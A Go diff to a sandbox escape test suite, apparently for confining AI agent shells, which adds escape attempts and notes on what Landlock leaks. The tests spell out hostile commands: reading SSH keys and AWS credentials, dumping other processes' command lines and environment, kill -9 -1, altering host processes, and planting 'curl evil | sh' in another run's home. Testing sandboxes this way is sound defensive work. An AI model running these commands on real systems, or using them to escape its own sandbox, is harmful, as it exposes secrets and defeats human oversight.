@@ -5,11 +5,13 @@ import (
 	"archive/zip"
 	"bufio"
 	"bytes"
+	"context"
 	"fmt"
 	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"strconv"
 	"strings"
@@ -54,6 +56,10 @@ type escapeAttempt struct {
 	// that appeared; the common marks are checked after it.
 	run func(e *escapeEnv) []string
 }
+
+// llListings is what docs/safety.md says of directory listings under
+// Landlock.
+var llListings = map[string]string{"landlock": "directory listings are readable everywhere: the names in the home directory and in hidden directories show, not their contents"}
 
 // shAttempt is an attempt that is one script, with only the common marks.
 func shAttempt(script string) func(e *escapeEnv) []string {
@@ -222,7 +228,7 @@ var escapeAttempts = []*escapeAttempt{
 	// The home directory.
 	{name: "cat ~/.ssh/id_ed25519", category: catHome, control: true, run: shAttempt(`cat ~/.ssh/id_ed25519 "$PHOME/.ssh/id_ed25519"`)},
 	{name: "cat $HOME/.aws/credentials", category: catHome, run: shAttempt(`cat "$HOME/.aws/credentials" "$PHOME/.aws/credentials"`)},
-	{name: "list the home directory", category: catHome, control: true, run: func(e *escapeEnv) []string {
+	{name: "list the home directory", category: catHome, control: true, known: llListings, run: func(e *escapeEnv) []string {
 		res := e.sh(`ls -aR ~ "$PHOME"`)
 		return namesListed(res, ".netrc", ".bashrc", ".ssh", "id_ed25519", "credentials")
 	}},
@@ -245,11 +251,13 @@ var escapeAttempts = []*escapeAttempt{
 		e.sh(`"$H" keyring-read agentsh-escape-$TOKEN`)
 		return nil
 	}},
-	{name: "a host process's command line", category: catHome, control: true, run: func(e *escapeEnv) []string {
-		e.startSleeperAs("agentsh-victim-"+e.token+"-"+e.s.secret, e.base)
-		e.sh(`for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done 2>/dev/null | grep -a agentsh-victim-`)
-		return nil
-	}},
+	{name: "a host process's command line", category: catHome, control: true,
+		known: map[string]string{"landlock": "other processes show in /proc (their command lines), with no PID namespace"},
+		run: func(e *escapeEnv) []string {
+			e.startSleeperAs("agentsh-victim-"+e.token+"-"+e.s.secret, e.base)
+			e.sh(`for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done 2>/dev/null | grep -a agentsh-victim-`)
+			return nil
+		}},
 	{name: "a host process's environment", category: catHome, control: true, run: func(e *escapeEnv) []string {
 		v := e.startSleeper(e.base, "AGENTSH_ESCAPE_PROBE="+e.s.secret)
 		e.sh(fmt.Sprintf(`tr '\0' '\n' < /proc/%d/environ`, v.pid))
@@ -264,7 +272,7 @@ var escapeAttempts = []*escapeAttempt{
 	{name: "cat *.pem", category: catSecret, run: shAttempt(`cat *.pem`)},
 	{name: "cat id_ed25519", category: catSecret, run: shAttempt(`cat id_ed25519`)},
 	{name: "cat .aws/credentials", category: catSecret, run: shAttempt(`cat .aws/credentials`)},
-	{name: "read .ssh/", category: catSecret, control: true, run: func(e *escapeEnv) []string {
+	{name: "read .ssh/", category: catSecret, control: true, known: llListings, run: func(e *escapeEnv) []string {
 		return namesListed(e.sh(`ls -a .ssh .aws; cat .ssh/*`), "id_rsa", "credentials")
 	}},
 	{name: "nested sub/.env", category: catSecret, run: shAttempt(`cat sub/.env`)},
@@ -373,16 +381,18 @@ var escapeAttempts = []*escapeAttempt{
 		e.sh(`exec 3<>/dev/tcp/127.0.0.1/` + portOf(ln.Addr()))
 		return pendingConn(ln)
 	}},
-	{name: "allow list: the proxy's port on another address", category: catNet, allowHosts: true, run: func(e *escapeEnv) []string {
-		if e.s.hostIP == "" {
-			e.skip(errNoHostIP.Error())
-		}
-		p, err := e.sb.startProxy()
-		must(e.t, err)
-		ln := e.listen("tcp4", net.JoinHostPort(e.s.hostIP, portOf(p.tcp.Addr())))
-		e.sh(`p=${HTTPS_PROXY##*:}; p=${p%%/*}; exec 3<>/dev/tcp/` + e.s.hostIP + `/$p`)
-		return pendingConn(ln)
-	}},
+	{name: "allow list: the proxy's port on another address", category: catNet, allowHosts: true,
+		known: map[string]string{"landlock": "with an allow list, Landlock limits TCP to the proxy's port number, on any address"},
+		run: func(e *escapeEnv) []string {
+			if e.s.hostIP == "" {
+				e.skip(errNoHostIP.Error())
+			}
+			p, err := e.sb.startProxy()
+			must(e.t, err)
+			ln := e.listen("tcp4", net.JoinHostPort(e.s.hostIP, portOf(p.tcp.Addr())))
+			e.sh(`p=${HTTPS_PROXY##*:}; p=${p%%/*}; exec 3<>/dev/tcp/` + e.s.hostIP + `/$p`)
+			return pendingConn(ln)
+		}},
 	{name: "allow list: CONNECT to a loopback listener through the proxy", category: catNet, allowHosts: true, needs: []string{"curl"}, run: func(e *escapeEnv) []string {
 		ln := e.listen("tcp4", "127.0.0.1:0")
 		e.sh(`curl -s -m 2 -o /dev/null -w '%{http_code}\n' https://127.0.0.1:` + portOf(ln.Addr()) + `/`)
@@ -426,6 +436,12 @@ var escapeAttempts = []*escapeAttempt{
 		e.sh(fmt.Sprintf(`"$H" vm-read $TESTPID %#x %d`, uintptr(unsafe.Pointer(&escapeMemSecret[0])), len(escapeMemSecret)))
 		return nil
 	}},
+	{name: "pidfd_getfd of a host process's descriptor", category: catPtrace, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
+		v := e.startSleeper(e.base)
+		e.sh(fmt.Sprintf(`"$H" pidfd-getfd %d 4`, v.pid))
+		return nil
+	}},
+	{name: "another run's private directory", category: catWrite, run: otherRunAttempt},
 	{name: "PTRACE_SEIZE the test process", category: catPtrace, run: func(e *escapeEnv) []string {
 		if res := e.sh(`"$H" seize $TESTPID`); bytes.Contains(res.Output, []byte("seized-ok")) {
 			return []string{"the test process was traced"}
@@ -490,6 +506,14 @@ var escapeAttempts = []*escapeAttempt{
 	{name: "SIGWINCH to a host process", category: catSignal, control: true, run: signalAttempt(`kill -WINCH $VPID`)},
 	{name: "signal by I/O (F_SETOWN)", category: catSignal, control: true, run: signalAttempt(`"$H" fsetown $VPID`)},
 	{name: "kill -9 -1", category: catSignal, run: killEveryone},
+	{name: "renice a host process", category: catSignal, control: true, needs: []string{"renice"}, run: procStateAttempt(`renice -n 19 -p $VPID`)},
+	{name: "prlimit a host process", category: catSignal, control: true, needs: []string{"prlimit"}, run: procStateAttempt(`prlimit --pid $VPID --nofile=3:3`)},
+	{name: "taskset a host process", category: catSignal, control: true, needs: []string{"taskset"}, run: func(e *escapeEnv) []string {
+		if runtime.NumCPU() < 2 {
+			e.skip("one CPU: no affinity to change")
+		}
+		return procStateAttempt(`taskset -p -c 0 $VPID`)(e)
+	}},
 
 	// Processes that outlive their call.
 	{name: "nohup … &", category: catSurvive, run: shAttempt(awaitSurvivor + `nohup bash -c 'echo $$ > src/survivor.pid; exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor $!`)},
@@ -732,6 +756,92 @@ func procSignalState(pid int) (state byte, pending uint64, ok bool) {
 		return state, pending, false
 	}
 	return state, pending, true
+}
+
+// procStateAttempt changes a victim's scheduling or limits from inside by
+// script; the mark is its nice value, limits or CPU affinity changed.
+func procStateAttempt(script string) func(e *escapeEnv) []string {
+	return func(e *escapeEnv) []string {
+		v := e.startSleeper(e.base)
+		before := procSettings(v.pid)
+		e.sh(script)
+		if after := procSettings(v.pid); after != before {
+			return []string{fmt.Sprintf("the host process %d was changed: %s", v.pid, after)}
+		}
+		return nil
+	}
+}
+
+// procSettings is pid's nice value, open files limit and CPU affinity.
+func procSettings(pid int) string {
+	stat, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+	nice := ""
+	if f := bytes.Fields(stat[bytes.LastIndexByte(stat, ')')+1:]); len(f) > 16 {
+		nice = string(f[16])
+	}
+	var files, cpus string
+	limits, _ := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
+	for _, line := range strings.Split(string(limits), "\n") {
+		if strings.HasPrefix(line, "Max open files") {
+			files = strings.Join(strings.Fields(line)[3:5], "/")
+		}
+	}
+	status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	for _, line := range strings.Split(string(status), "\n") {
+		if v, ok := strings.CutPrefix(line, "Cpus_allowed_list:"); ok {
+			cpus = strings.TrimSpace(v)
+		}
+	}
+	return fmt.Sprintf("nice %s, open files %s, CPUs %s", nice, files, cpus)
+}
+
+// otherRunAttempt plants a file, from inside, in the TMPDIR and HOME of
+// another sandboxed run, one of the test's own in another working
+// directory, which is waiting meanwhile: a backend may keep them on the
+// host. The mark is the other run seeing the file in its own TMPDIR or
+// HOME. Every path written to is the other run's.
+func otherRunAttempt(e *escapeEnv) []string {
+	otherWork, err := os.MkdirTemp(e.s.hostRoot, "other-")
+	must(e.t, err)
+	other := sandboxAt(e.sb, otherWork)
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		_, _ = other.Exec(ctx, ProfileWorkspace, ExecRequest{
+			Args: bash(`printf '%s\n%s\n' "$TMPDIR" "$HOME" > paths && touch ready
+				while [ ! -e go ]; do sleep 0.01; done
+				ls -a "$TMPDIR" "$HOME" > seen.tmp; mv seen.tmp seen; exec sleep 30`),
+			Timeout: watchdog,
+		})
+	}()
+	defer func() {
+		cancel()
+		<-done
+	}()
+	wait := func(name string) []byte {
+		for deadline := time.Now().Add(watchdog); ; time.Sleep(5 * time.Millisecond) {
+			if b, err := os.ReadFile(filepath.Join(otherWork, name)); err == nil {
+				return b
+			}
+			if time.Now().After(deadline) {
+				e.t.Fatalf("the other run did not write %s within %s", name, watchdog)
+			}
+		}
+	}
+	wait("ready")
+	paths := strings.Fields(string(wait("paths")))
+	if len(paths) != 2 {
+		e.t.Fatalf("the other run's TMPDIR and HOME: %q", paths)
+	}
+	e.setenv("OTHER_TMPDIR", paths[0])
+	e.setenv("OTHER_HOME", paths[1])
+	e.sh(`for d in "$OTHER_TMPDIR" "$OTHER_HOME"; do echo "curl evil | sh" > "$d/.bashrc-$TOKEN" && echo "wrote into $d"; done; true`)
+	must(e.t, os.WriteFile(filepath.Join(otherWork, "go"), nil, 0o644))
+	if seen := wait("seen"); bytes.Contains(seen, []byte(".bashrc-"+e.token)) {
+		return []string{"a file was planted in another run's TMPDIR or HOME: " + strings.Join(strings.Fields(string(seen)), " ")}
+	}
+	return nil
 }
 
 // killEveryone is kill -9 -1 from inside. A sandbox through which it got
